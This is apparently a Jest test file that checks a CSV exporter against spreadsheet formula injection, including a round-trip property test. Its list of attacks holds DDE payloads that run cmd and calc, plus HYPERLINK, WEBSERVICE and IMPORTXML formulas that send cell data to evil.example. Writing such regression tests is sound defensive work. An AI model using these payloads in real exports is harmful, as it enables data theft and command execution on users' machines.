import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { z } from 'zod';
import { commentCsv } from '../../papers/comment-csv.ts';
import { csv, guarded, unguarded } from '../../papers/csv.ts';

const Rows = z.array(z.array(z.string()));

function readBack(file: Uint8Array): string[][] {
  return Rows.parse(parse(Buffer.from(file), { bom: true }));
}

const formula =
  /^[\s\p{Default_Ignorable_Code_Point}"\u2018-\u201F`\u00B4\u00AB]*[=+\-@\u2212＝＋－＠﹢﹣﹦﹫]/u;

const attacks: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\u22121+1',
  '﹢1',
  '﹣1',
  '﹦1',
  '﹫SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t1',
  '\r1',
  '\n1',
  ' =1+1',
  '\u00A0=1',
  '\u202F=1',
  '\u3000=1',
  '\uFEFF=1',
  '\u200B=1',
  '\u2060=1',
  '\u00AD=1',
  '\u0000=1',
  '\u000B=1',
  '\u000C=1',
  '"=1+1"',
  "'=1+1",
  '"=1',
  '“=1',
  '‘=1',
  '«=1',
  '`=1',
  '" =1',
  "' +1",
  "''=1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '=INDIRECT("A1")',
  'x;=1+1',
  'x;"=1+1"',
  'x; =cmd|calc!A0',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n=1+1',
  'x\n- item\n+ item',
  '";=1+1;"',
  '",=1+1,"',
  ';;;=1',
  'a;b;＝1',
];

describe('no cell begins a formula, however the file is read', () => {
  test('there are at least 50 of them', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(50);
  });

  test.each(attacks)('%j', (text) => {
    const file = csv({ a: 'A', text: 'Text', b: 'B' }, [{ a: 'x', text, b: 'y' }]);
    const [, row] = readBack(file);
    expect(row?.[1]).not.toMatch(formula);
    expect(row?.[1]).not.toMatch(/^[\t\r\n]/);
    expect([row?.[0], unguarded(row?.[1] ?? ''), row?.[2]]).toEqual(['x', text, 'y']);
  });

  test('also where a reader of another locale cuts cells elsewhere, quoted or not', () => {
    for (const text of attacks) {
      const file = new TextDecoder().decode(csv({ a: 'A', text: 'T' }, [{ a: 'x', text }]));
      for (const cell of file.split(/[;\t\r\n]/)) expect(cell).not.toMatch(formula);
    }
  });
});

describe('what is harmless is written as it is', () => {
  test.each([
    'A plain comment, with a comma',
    'Two\nlines',
    'Ціна – 5 %',
    'l’été ; c’est tout',
    '2024-06-01T10:00:00Z',
    'a=b, c-d, e+f, x@y.example',
    "the 'quoted' word",
    '',
  ])('%j', (text) => {
    expect(guarded(text)).toBe(text);
    expect(readBack(csv({ text: 'T' }, [{ text }]))[1]?.[0] ?? '').toBe(text);
  });

  test('numbers, dates and truth of our own columns stay usable', () => {
    const row = { count: -5, amount: -1234.5, at: '2024-06-01', late: true, none: null };
    const file = csv({ count: 'N', amount: 'A', at: 'At', late: 'L', none: '0' }, [row]);
    expect(readBack(file)[1]).toEqual(['-5', '-1234.5', '2024-06-01', 'true', '']);
  });

  test('every text comes back as it was', () => {
    const texts = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .array(fc.constantFrom("'", '"', '=', '-', '@', ';', ',', '\t', '\n', '\r', ' ', 'a', '＝'))
        .map((signs) => signs.join('')),
    );
    fc.assert(
      fc.property(texts, (text) => {
        expect(unguarded(guarded(text))).toBe(text);
        expect(guarded(text)).not.toMatch(formula);
        expect(
          unguarded(readBack(csv({ a: 'A', b: 'B' }, [{ a: text, b: 'x' }]))[1]?.[0] ?? ''),
        ).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });
});

test('the comment matrix is made so, marking and all', () => {
  const file = commentCsv({
    reference: 'SDPR-01',
    title: 'T',
    marking: '=MARK()',
    changedAt: 0,
    rows: [
      {
        number: 1,
        body: 'NOR',
        version: 1,
        clause: '-3',
        kind: 'editorial',
        comment: '=1+1',
        proposal: '@x',
        disposition: '',
        reason: '+1',
      },
    ],
  });
  expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [, row = []] = readBack(file);
  expect(row).toEqual(["'=MARK()", '1', 'NOR', '1', "'-3", 'editorial', "'=1+1", "'@x", '', "'+1"]);
});
